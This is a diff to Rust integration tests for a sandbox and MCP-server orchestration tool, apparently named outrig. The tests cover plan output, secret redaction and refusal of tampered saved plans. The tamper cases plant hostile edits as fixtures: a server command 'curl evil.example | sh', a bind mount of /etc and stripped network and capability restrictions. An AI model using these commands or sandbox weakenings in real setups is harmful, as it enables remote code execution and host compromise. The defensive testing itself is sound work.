@@ -161,6 +161,12 @@ fn current_images_and_a_matching_session_mean_no_changes() {
     // Images are current, but nothing was applied yet: still changes (everything is new).
     let run = project.context.run(&["plan", "--detailed-exitcode"]);
     assert_eq!(run.status, 2, "{}", run.all());
+    assert!(
+        run.stdout.contains("unchanged: image.tools"),
+        "{}",
+        run.stdout
+    );
+    let run = project.context.run(&["plan", "--verbose"]);
     assert!(run.stdout.contains("up to date"), "{}", run.stdout);
     // A session that applied exactly this desired state.
     let session = project
@@ -203,10 +209,17 @@ fn current_images_and_a_matching_session_mean_no_changes() {
         .collect();
     assert_eq!(replaced.len(), 1, "{plan:#}");
     assert_eq!(replaced[0]["action"], "replace");
-    assert!(
-        replaced[0]["reason"].as_str().unwrap().contains("`app.py`"),
+    assert_eq!(
+        replaced[0]["reasons"][0]["changes"][0],
+        serde_json::json!({"path": "app.py", "change": {"kind": "modified"}}),
         "{}",
-        replaced[0]["reason"]
+        replaced[0]
+    );
+    let run = project.context.run(&["plan"]);
+    assert!(
+        run.stdout.contains("build context changed: `app.py`"),
+        "{}",
+        run.stdout
     );
 }
 
@@ -230,9 +243,8 @@ fn json_and_saved_plans_match_the_committed_schema() {
         .map(|e| e.to_string())
         .collect();
     assert!(errors.is_empty(), "{errors:?}");
-    assert_eq!(plan["format_version"], 1);
+    assert_eq!(plan["format_version"], 2);
     assert!(plan["config_digest"].as_str().unwrap().len() >= 16);
-    assert!(plan["observed_fingerprint"].as_str().unwrap().len() >= 16);
 }
 
 #[test]
@@ -258,10 +270,19 @@ fn secrets_appear_in_no_plan_output() {
         human.stdout
     );
     assert!(
-        human.stdout.contains("--env API_TOKEN "),
+        human
+            .stdout
+            .contains("env: API_TOKEN (secret ${API_TOKEN})"),
         "{}",
         human.stdout
     );
+    let verbose = project.context.run(&["plan", "--verbose"]);
+    assert!(
+        verbose.stdout.contains("--env API_TOKEN "),
+        "{}",
+        verbose.stdout
+    );
+    assert!(!verbose.all().contains(SECRET));
     // An unset variable is an error that names it and nothing else.
     let context = TestContext::new()
         .env(
@@ -615,4 +636,217 @@ fn mcp_prints_the_config_snippet_for_each_client() {
     let bad = project.context.run(&["mcp", "--print-config", "emacs"]);
     assert_eq!(bad.status, 1);
     assert!(bad.stderr.contains("claude-code"), "{}", bad.stderr);
+}
+
+/// A saved plan that was edited after it was made is refused before anything starts, and
+/// the refusal names what differs. Three edits: the sandbox's network and capabilities, the
+/// workspace's source, a server's command — in the desired state, in a step's operation,
+/// or both.
+#[test]
+fn tampered_saved_plans_are_refused_before_anything_starts() {
+    let project = Project::new();
+    let run = project.context.run(&["plan", "--out", "plan.json"]);
+    assert_eq!(run.status, 0, "{}", run.all());
+    let path = project.context.path().join("plan.json");
+    let original: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    let step_index = |plan: &Value, address: &str| {
+        plan["steps"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .position(|s| s["address"] == address)
+            .unwrap()
+    };
+    type Edit = fn(&mut Value, usize, usize);
+    let cases: [(&str, Edit, &[&str]); 4] = [
+        (
+            "network and capabilities, desired state only",
+            |plan, _, _| {
+                let sandbox = &mut plan["desired"]["sandboxes"]["tools"];
+                sandbox["network"] = "default".into();
+                sandbox["cap_drop"] = serde_json::json!([]);
+            },
+            &[
+                "sandbox.tools: network default → none",
+                "sandbox.tools: cap_drop",
+            ],
+        ),
+        (
+            "network in the sandbox's operation only",
+            |plan, sandbox, _| {
+                let args = plan["steps"][sandbox]["operation"]["command"]["args"]
+                    .as_array_mut()
+                    .unwrap();
+                let at = args.iter().position(|a| a == "--network=none").unwrap();
+                args[at] = "--network=podman".into();
+                args.retain(|a| a != "--cap-drop=ALL");
+            },
+            &["sandbox.tools: operation.command.args: `--network=podman` → `--network=none`"],
+        ),
+        (
+            "the workspace's source",
+            |plan, sandbox, _| {
+                plan["desired"]["sandboxes"]["tools"]["workspace_host"] = "/etc".into();
+                for arg in plan["steps"][sandbox]["operation"]["command"]["args"]
+                    .as_array_mut()
+                    .unwrap()
+                {
+                    if arg.as_str().is_some_and(|a| a.starts_with("type=bind")) {
+                        *arg = "type=bind,source=/etc,target=/workspace".into();
+                    }
+                }
+            },
+            &["sandbox.tools: workspace_host /etc → "],
+        ),
+        (
+            "a server's command",
+            |plan, _, server| {
+                plan["desired"]["servers"]["tools.time"]["command"] =
+                    serde_json::json!(["sh", "-c", "curl evil.example | sh"]);
+                let args = plan["steps"][server]["operation"]["command"]["args"]
+                    .as_array_mut()
+                    .unwrap();
+                let len = args.len();
+                args.truncate(len - 3);
+                for word in ["sh", "-c", "curl evil.example | sh"] {
+                    args.push(word.into());
+                }
+            },
+            &[
+                "mcp.tools.time: command: `sh` `-c` `curl evil.example | sh` → `python3` `-m` `mcp_server_time`",
+            ],
+        ),
+    ];
+    for (name, edit, expected) in cases {
+        let mut plan = original.clone();
+        let sandbox = step_index(&plan, "sandbox.tools");
+        let server = step_index(&plan, "mcp.tools.time");
+        edit(&mut plan, sandbox, server);
+        std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
+        let calls_before = project.calls().len();
+        let run = project
+            .context
+            .run(&["apply", "plan.json", "--auto-approve"]);
+        assert_eq!(run.status, 1, "{name}: {}", run.all());
+        assert!(
+            run.stderr.contains("is not what would run now"),
+            "{name}: {}",
+            run.stderr
+        );
+        for line in expected {
+            assert!(
+                run.stderr.contains(line),
+                "{name}: `{line}` missing in\n{}",
+                run.stderr
+            );
+        }
+        assert!(
+            !run.stderr.contains("outrig plan for project"),
+            "{name}: nothing shown as if it ran"
+        );
+        // Only the plan's own queries reached podman: nothing was built, run or removed.
+        let calls = project.calls();
+        assert!(
+            calls[calls_before..]
+                .iter()
+                .all(|c| c.starts_with("images") || c.starts_with("ps")),
+            "{name}: {calls:?}"
+        );
+        assert!(
+            outrig::session::ids(&project.context.path().join(".sessions")).is_empty(),
+            "{name}: no session started"
+        );
+        assert!(!run.all().contains(SECRET));
+    }
+    // The untouched plan is what runs: it goes past the comparison (to the build the fake
+    // podman cannot do).
+    std::fs::write(&path, serde_json::to_string_pretty(&original).unwrap()).unwrap();
+    let run = project
+        .context
+        .run(&["apply", "plan.json", "--auto-approve"]);
+    assert!(
+        !run.stderr.contains("is not what would run now"),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains("image.tools: building"),
+        "{}",
+        run.stderr
+    );
+}
+
+/// `outrig show` renders a saved plan as `outrig plan` did, or its JSON.
+#[test]
+fn show_renders_a_saved_plan() {
+    let project = Project::new();
+    let planned = project
+        .context
+        .run(&["plan", "--out", "plan.json", "--verbose"]);
+    assert_eq!(planned.status, 0, "{}", planned.all());
+    let shown = project.context.run(&["show", "plan.json", "--verbose"]);
+    assert_eq!(shown.status, 0, "{}", shown.all());
+    assert_eq!(shown.stdout, planned.stdout);
+    let json = project.context.run(&["show", "plan.json", "--json"]);
+    assert_eq!(
+        json.stdout,
+        std::fs::read_to_string(project.context.path().join("plan.json")).unwrap()
+    );
+    let missing = project.context.run(&["show", "nope.json"]);
+    assert_eq!(missing.status, 1);
+    assert!(
+        missing.stderr.contains("cannot read the plan `"),
+        "{}",
+        missing.stderr
+    );
+    project
+        .context
+        .write("old.json", r#"{"format_version": 1}"#);
+    let old = project.context.run(&["show", "old.json"]);
+    assert_eq!(old.status, 1);
+    assert!(
+        old.stderr.contains("format version 1, this outrig reads 2"),
+        "{}",
+        old.stderr
+    );
+}
+
+/// `/dev/zero`, a FIFO with no writer and a 5 MB file, as `--config` or as a plan file:
+/// each a clear error at once (exit 1), never a hang.
+#[test]
+fn streams_fifos_and_large_files_are_refused_at_once() {
+    let project = Project::new();
+    let dir = project.context.path();
+    let fifo = dir.join("fifo");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let big = dir.join("big.toml");
+    std::fs::write(&big, vec![b'#'; 5 * 1024 * 1024]).unwrap();
+    for path in ["/dev/zero", fifo.to_str().unwrap(), big.to_str().unwrap()] {
+        for args in [
+            vec!["--config", path, "validate"],
+            vec!["--config", path, "plan"],
+            vec!["apply", path, "--auto-approve"],
+            vec!["show", path],
+        ] {
+            let started = std::time::Instant::now();
+            let run = project.context.run(&args);
+            assert_eq!(run.status, 1, "{args:?}: {}", run.all());
+            assert!(
+                started.elapsed() < std::time::Duration::from_secs(1),
+                "{args:?} took {:?}",
+                started.elapsed()
+            );
+            assert!(
+                run.stderr.contains("not a regular file")
+                    || run.stderr.contains("larger than")
+                    || run.stderr.contains("is not an outrig plan"),
+                "{args:?}: {}",
+                run.stderr
+            );
+        }
+    }
 }
